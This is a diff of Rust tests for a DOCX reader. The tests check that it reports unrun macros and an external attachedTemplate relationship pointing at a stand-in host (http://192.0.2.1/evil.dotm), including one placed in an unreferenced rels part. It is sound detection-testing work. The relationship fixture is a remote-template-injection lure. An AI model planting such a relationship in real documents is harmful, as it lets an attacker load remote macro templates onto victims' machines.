@@ -264,9 +264,9 @@ fn what_a_document_says_of_itself_and_what_it_holds() {
     assert_snapshot!(told(&rendition), @r#"
       body | J’accuse
     inside : word/media/image1.png Some("image/png") 4 bytes
-    remark : Strange it asks for something elsewhere when it is opened (attachedTemplate: http://192.0.2.1/evil.dotm) Some("word/document.xml")
     remark : NotRead a document of another format is to be put into it here; it was not None
     remark : Strange it holds macros, which were not run Some("word/vbaProject.bin")
+    remark : Strange it asks for something elsewhere when it is opened (attachedTemplate: http://192.0.2.1/evil.dotm) Some("word/_rels/document.xml.rels")
     "#);
     assert_snapshot!(format!("{:?}", rendition.about), @r#"
     About { title: Some("Lettre"), author: Some("É. Zola"), date: None, lang: None, encoding: None, more: [("dcterms:created", "1898-01-13T00:00:00Z"), ("Dossier", "12/1898")] }
@@ -284,6 +284,11 @@ fn what_is_made_to_harm_does_not() {
     let unclosed = format!("<w:tbl><w:tr><w:tc>{}", p("Le jugement."));
     let main = format!("<w:document {W}><w:body>{unclosed}");
     assert_eq!(read(&zip(&[("word/document.xml", main.as_bytes())])).text, "Le jugement.\n");
+    // A template elsewhere, asked for by a part that nothing refers to.
+    let template = r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="http://x/attachedTemplate" Target="http://192.0.2.1/a.dotm" TargetMode="External"/></Relationships>"#;
+    let main = format!("<w:document {W}><w:body>{}</w:body></w:document>", p("x"));
+    let bytes = zip(&[("word/document.xml", main.as_bytes()), ("word/_rels/settings.xml.rels", template.as_bytes())]);
+    assert!(read(&bytes).remarks.iter().any(|r| r.what.contains("192.0.2.1")));
     let limits = Limits { text: 1000, ..Limits::default() };
     let long = parse(&document(&p("Casse et annule. ").repeat(500), &[]), limits).unwrap();
     assert!(long.text.len() <= 1000 && long.remarks.iter().any(|r| r.what.contains("longer than the limit")));
